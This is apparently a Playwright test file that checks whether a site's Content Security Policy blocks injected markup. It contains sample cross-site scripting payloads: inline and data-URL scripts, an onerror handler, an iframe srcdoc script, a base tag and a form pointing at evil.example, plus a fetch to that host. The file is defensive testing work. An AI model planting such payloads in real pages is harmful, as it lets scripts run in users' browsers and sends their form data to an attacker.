import { expect, type Page, test } from "./support/test.ts";

const INJECTED = `
	<script>window.ran = "inline script"</script>
	<script src="data:text/javascript,window.ran='script from elsewhere'"></script>
	<img src="/nothing.png" alt="" onerror="window.ran = 'handler'">
	<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
	<base href="https://evil.example/">
	<style>h1 { color: rgb(1, 2, 3) !important }</style>
	<form id="stolen" action="https://evil.example/"><button>Send</button></form>`;

test("by the policy injected markup does not run, paint or post", async ({ page, complaints }) => {
	await test.step("without the policy it would", async () => {
		await injectInto(page, ["content-security-policy"]);
		await page.goto("/terms");
		await expect.poll(() => page.evaluate("window.ran")).toBeTruthy();
		await expect(page.locator("h1")).toHaveCSS("color", "rgb(1, 2, 3)");
		expect(await page.evaluate(() => document.baseURI)).toBe("https://evil.example/");
		complaints.length = 0;
	});
	await test.step("it does not run or paint", async () => {
		await injectInto(page, []);
		await page.goto("/terms", { waitUntil: "networkidle" });
		expect(await page.evaluate("window.ran")).toBeUndefined();
		await expect(page.locator("h1")).not.toHaveCSS("color", "rgb(1, 2, 3)");
		expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
		for (const directive of ["script-src-elem", "script-src-attr", "style-src-elem", "base-uri"])
			await expect.poll(() => complaints.join("\n")).toContain(`Violation of ${directive}`);
	});
	await test.step("a script of the page cannot make code or markup out of text, nor call another host", async () => {
		const refused = await page.evaluate(async () => {
			const attempts = [
				async () => document.body.insertAdjacentHTML("beforeend", "<b>typed</b>"),
				async () => document.body.setAttribute("onclick", "window.ran = 'click'"),
				() => fetch("https://evil.example/"),
			];
			const outcomes = await Promise.allSettled(attempts.map((attempt) => attempt()));
			return outcomes.map(({ status }) => status);
		});
		expect(refused).toEqual(["rejected", "rejected", "rejected"]);
		await expect.poll(() => complaints.join("\n")).toContain("Violation of connect-src");
	});
	await test.step("it does not post", async () => {
		// Later, because Playwright would wait for the page that a click leads to, and none comes.
		await page.locator("#stolen").evaluate((form: HTMLFormElement) => setTimeout(() => form.requestSubmit()));
		await expect.poll(() => complaints.join("\n")).toContain("Violation of form-action");
	});
	complaints.length = 0;
});

async function injectInto(page: Page, dropped: readonly string[]): Promise<void> {
	await page.unroute("**/terms");
	await page.route("**/terms", async (route) => {
		const response = await route.fetch();
		const headers = Object.entries(response.headers()).filter(([name]) => !dropped.includes(name));
		const body = (await response.text()).replace("</title>", `</title>${INJECTED}`);
		await route.fulfill({ response, headers: Object.fromEntries(headers), body });
	});
}
